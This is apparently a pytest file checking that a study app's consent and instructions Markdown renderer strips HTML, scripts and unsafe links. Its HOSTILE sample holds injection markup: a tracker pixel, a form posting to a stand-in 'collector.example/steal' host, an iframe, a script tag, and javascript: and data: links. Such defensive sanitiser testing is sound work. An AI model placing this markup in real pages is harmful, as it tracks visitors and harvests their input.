"""Study consent and instructions render with an allowlist: no remote image, form, frame or script, however
the study file is written; the Markdown a consent form needs still renders."""

from __future__ import annotations

import sys
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "battle"))
sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "study"))

from webapp.ui.parts.study_text import study_markdown  # noqa: E402

HOSTILE = """## Consent
You agree that your messages are **stored**, as the [terms](https://example.org/terms) say.

<img src="https://tracker.example/pixel.png"> ![pixel](https://tracker.example/p2.png)
<form action="https://collector.example/steal"><input name="pid"><button>Send</button></form>
<iframe src="https://collector.example/frame"></iframe><script>alert(1)</script>
A [bad link](javascript:alert(2)), a [data link](data:text/html,hi) and <https://example.org/autolink>.

- one
- two

`<b>` in code stays as code.
"""


def test_html_images_and_unsafe_links_become_text():
    out = study_markdown(HOSTILE)
    for tag in ("<img", "<form", "<iframe", "<script", "<input", "<button"):
        assert tag not in out
    assert "](https://tracker.example/p2.png)" in out and "\\![pixel]" in out  # a link now, never fetched
    assert "javascript:" not in out and "data:text" not in out
    assert "[terms](https://example.org/terms)" in out and "**stored**" in out and "- one\n- two" in out
    assert "[https://example.org/autolink](https://example.org/autolink)" in out
    assert "`<b>`" in out  # code is already shown as text


def test_fenced_code_is_left_as_written():
    text = "before <i>\n```html\n<form action='x'>\n```\nafter <u>"
    assert study_markdown(text) == "before &lt;i>\n```html\n<form action='x'>\n```\nafter &lt;u>"


@pytest.mark.browser
@pytest.mark.slow
def test_the_study_page_loads_nothing_remote_and_shows_no_form(tmp_path, browser):
    from battle_support import FakeCatalogCRS, make_services
    from study_support import pid, publish

    from tests.support.asgi_server import running
    from webapp.serve import build_app

    services = make_services(tmp_path, [FakeCatalogCRS(s) for s in ("alpha", "beta", "gamma")], max_turns=6)
    publish(services, consent=HOSTILE, instructions=HOSTILE.replace("Consent", "Instructions"))
    remote = []
    try:
        with running(build_app(services)) as url:
            page = browser.page()
            page.on("request", lambda r: remote.append(r.url) if not r.url.startswith(url) else None)
            page.goto(f"{url}/study/?study=pilot&PROLIFIC_PID={pid('5f1a2b')}", wait_until="load")
            consent = page.locator("#study-consent")
            consent.get_by_text("You agree that your messages are").wait_for()
            assert consent.locator("img, form, iframe, script, input").count() == 0
            assert consent.locator("a[href='https://example.org/terms']").count() == 1
            assert consent.locator("a[href^='javascript'], a[href^='data']").count() == 0
            assert "<form" in consent.inner_text()  # shown as the text it is
            page.locator("#study-agree").click()
            instructions = page.locator("#study-instructions")
            instructions.get_by_text("You agree that your messages are").wait_for()
            assert instructions.locator("img, form, iframe, script").count() == 0
            assert not [u for u in remote if "tracker.example" in u or "collector.example" in u]
    finally:
        services.store.close()
